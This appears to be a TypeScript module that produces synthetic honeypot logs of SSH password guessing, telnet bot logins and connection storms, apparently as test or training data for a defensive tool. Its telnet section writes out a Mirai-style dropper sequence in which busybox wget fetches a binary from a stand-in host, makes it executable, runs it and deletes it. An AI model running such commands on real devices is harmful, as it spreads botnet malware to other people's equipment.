/** Those who come to the shell services: guessers with wordlists, and telnet bots. */
import type { Decky } from '../deckies.ts'
import { type LogBook, MINUTE, SECOND, START, secret } from '../log_book.ts'
import { random } from '../random.ts'
import { passwords, sshUsers, telnetLogins } from '../words.ts'

interface Guesser {
  readonly ip: string
  readonly decky: Decky
  readonly tries: number
  /** first try, in minutes after the sample begins */
  readonly minute: number
  /** mean time between tries */
  readonly ms: number
  /** what this one's wordlist appends, so that two lists share few secrets */
  readonly suffix: string
}

const guessers: readonly Guesser[] = [
  { ip: '198.51.100.7', decky: 'web-01', tries: 1500, minute: 12, ms: 2400, suffix: '' },
  { ip: '203.0.113.9', decky: 'db-07', tries: 900, minute: 65, ms: 4100, suffix: '$' },
  { ip: '198.51.100.23', decky: 'files-02', tries: 420, minute: 140, ms: 9000, suffix: '.' },
  { ip: '2001:db8:5ca1::7', decky: 'web-01', tries: 260, minute: 210, ms: 6500, suffix: '' },
  { ip: '203.0.113.41', decky: 'web-01', tries: 45, minute: 30, ms: 540_000, suffix: '' },
]

/** One password over SSH: two lines of sshd around the password helper's. */
export function sshTry(
  log: LogBook,
  at: number,
  decky: Decky,
  ip: string,
  login: { readonly user: string; readonly password: string; readonly ok?: boolean },
): void {
  const dice = random(`${ip} ${at}`)
  const port = dice.between(32768, 60999)
  const pid = dice.between(600, 32000)
  const { user, password, ok = false } = login
  log.daemon(at, decky, 'sshd', pid, `Connection from ${ip} port ${port} on 192.0.2.10 port 22`)
  const params = { username: user, principal: user, ...secret(password), src_ip: ip }
  log.event(at + 140_000, decky, 'auth-helper', 'auth_attempt', params)
  const verdict = ok ? 'Accepted' : 'Failed'
  log.daemon(
    at + 141_500,
    decky,
    'sshd',
    pid,
    `${verdict} password for ${user} from ${ip} port ${port} ssh2`,
  )
}

export function sshGuessers(log: LogBook): void {
  for (const { ip, decky, tries, minute, ms, suffix } of guessers) {
    const dice = random(`ssh ${ip}`)
    let at = START + minute * MINUTE
    for (let count = 0; count < tries; count += 1) {
      const user = dice.chance(60) ? 'root' : dice.pick(sshUsers)
      const password = (passwords[(count * 7) % passwords.length] as string) + suffix
      sshTry(log, at, decky, ip, { user, password })
      at += dice.gap(ms)
    }
  }
}

const bots = ['198.51.100.101', '198.51.100.102', '203.0.113.180', '203.0.113.181'] as const
const payload = (host: string): readonly string[] => [
  'enable',
  'system',
  '/bin/busybox MIRAI',
  `cd /tmp || cd /var/run; /bin/busybox wget http://${host}/bins/arm7 -O - > dvrHelper`,
  'chmod 777 dvrHelper; ./dvrHelper selfrep.telnet; rm -f dvrHelper',
]

/** Camera and router passwords over telnet, whose shell does not say where a command comes from. */
export function telnetBots(log: LogBook): void {
  for (const [index, ip] of bots.entries()) {
    const dice = random(`telnet ${ip}`)
    let at = START + (20 + index * 55) * MINUTE
    for (let session = 0; session < 60; session += 1) {
      const [user, password] = dice.pick(telnetLogins)
      const params = { username: user, principal: user, ...secret(password), src_ip: ip }
      log.event(at, 'iot-04', 'auth-helper', 'auth_attempt', params)
      at += dice.gap(900)
      for (const line of dice.chance(12) ? payload('203.0.113.250') : []) {
        log.raw(at, `<14>1 ${stamp(at)} iot-04 bash - command - CMD uid=0 pwd=/ cmd=${line}`)
        at += dice.gap(400)
      }
      at += dice.gap(50_000)
    }
  }
}

const stamp = (at: number): string => new Date(Math.floor(at / 1000)).toISOString()

/** Somebody tests how many connections a decky bears: what the rate limit is for. */
export function connectStorms(log: LogBook): void {
  const ip = '198.51.100.200'
  const storms = [
    ['cache-06', 'redis', 88, 500],
    ['db-07', 'mysql', 171, 450],
    ['mail-05', 'smtp', 305, 480],
  ] as const
  for (const [decky, service, minute, pairs] of storms) {
    const dice = random(`storm ${decky}`)
    let at = START + minute * MINUTE
    for (let count = 0; count < pairs; count += 1) {
      const params = { src: ip, src_port: 20_000 + count }
      log.event(at, decky, service, 'connect', params)
      log.event(at + dice.gap(3), decky, service, 'disconnect', params)
      at += dice.gap(count % 100 === 99 ? (3 * SECOND) / 1000 : 12)
    }
  }
}
